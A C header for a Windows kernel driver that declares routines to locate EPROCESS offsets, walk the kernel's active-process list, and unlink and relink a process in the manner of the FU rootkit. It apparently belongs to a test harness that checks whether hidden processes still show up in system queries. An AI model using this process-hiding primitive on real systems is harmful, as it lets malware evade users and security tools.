/*
 * dkomproc.sys — shared declarations. The EPROCESS offsets are found at run time, never hard-coded,
 * the way FU (rootkit.com, 2004) and its descendants find them: EPROCESS is opaque and its layout
 * changes with every Windows build.
 */
#pragma once
#include <ntifs.h>
#include "../include/apitest.h"

#define DKOM_TAG 'mokD'

/* ntoskrnl's build number (data export): 0xF in the top nibble for a free build, the build in the low 16 bits. */
__declspec(dllimport) extern ULONG NtBuildNumber;

NTKERNELAPI PUCHAR NTAPI PsGetProcessImageFileName(PEPROCESS Process);
NTKERNELAPI NTSTATUS NTAPI ZwQuerySystemInformation(ULONG SystemInformationClass, PVOID SystemInformation, ULONG SystemInformationLength, PULONG ReturnLength);

/* Where the fields sit in this kernel's EPROCESS (0 = not found). */
typedef struct _DKOM_OFFSETS {
    ULONG ImageFileName;
    ULONG UniqueProcessId;
    ULONG ActiveProcessLinks;
} DKOM_OFFSETS;

/* offsets.c: scan the System process (the current process in DriverEntry and DllInitialize). */
BOOLEAN DkomFindOffsets(DKOM_OFFSETS *o);

/* walk.c */
#define DKOM_LINKS(o, p) ((PLIST_ENTRY)((PUCHAR)(p) + (o)->ActiveProcessLinks))
#define DKOM_PROCESS(o, e) ((PEPROCESS)((PUCHAR)(e) - (o)->ActiveProcessLinks))
#define DKOM_PID(o, p) (*(HANDLE *)((PUCHAR)(p) + (o)->UniqueProcessId))
#define DKOM_NAME(o, p) ((const char *)(p) + (o)->ImageFileName)

/* The first process of that image name along ActiveProcessLinks, or NULL. */
PEPROCESS DkomFindByName(const DKOM_OFFSETS *o, const char *name);
/* Processes along ActiveProcessLinks from System around to the list head. */
ULONG DkomCount(const DKOM_OFFSETS *o);
/* Is the PID listed by ZwQuerySystemInformation(SystemProcessInformation)? */
BOOLEAN DkomListedBySystemInformation(HANDLE pid);
/* FU's unlink: the neighbours point past the entry; selfLink: the entry then points at itself. */
void DkomUnlink(const DKOM_OFFSETS *o, PEPROCESS p, BOOLEAN selfLink);
/* Put it back after `after` (InsertHeadList on after's links). */
void DkomRelinkAfter(const DKOM_OFFSETS *o, PEPROCESS p, PEPROCESS after);
